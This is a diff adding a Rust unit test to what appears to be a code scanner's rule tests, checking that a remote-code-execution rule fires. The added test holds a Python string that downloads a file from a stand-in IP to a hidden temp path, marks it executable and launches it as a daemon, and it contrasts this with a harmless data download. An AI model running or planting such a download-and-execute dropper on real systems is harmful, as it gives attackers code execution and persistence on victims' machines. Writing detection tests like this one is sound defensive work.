@@ -200,3 +200,11 @@ fn text_hidden_by_reversal_rotation_or_url_escapes_is_decoded_and_its_execution_
         RuleId::T2ObfuscatedExec
     ));
 }
+
+#[test]
+fn a_file_saved_by_urlretrieve_and_then_run_is_remote_code() {
+    let code = "import os, subprocess, tempfile, urllib.request\ndst = os.path.join(tempfile.gettempdir(), '.engine')\nurllib.request.urlretrieve('http://203.0.113.9/e', dst)\nos.chmod(dst, 0o755)\nsubprocess.Popen([dst, '--daemon'])\n";
+    assert!(has("scripts/up.py", code, RuleId::T2RemoteCodeExec));
+    let kept = "import urllib.request\nurllib.request.urlretrieve('https://example.com/data.csv', 'data.csv')\nprint(open('data.csv').read()[:100])\n";
+    assert!(!has("scripts/get.py", kept, RuleId::T2RemoteCodeExec));
+}
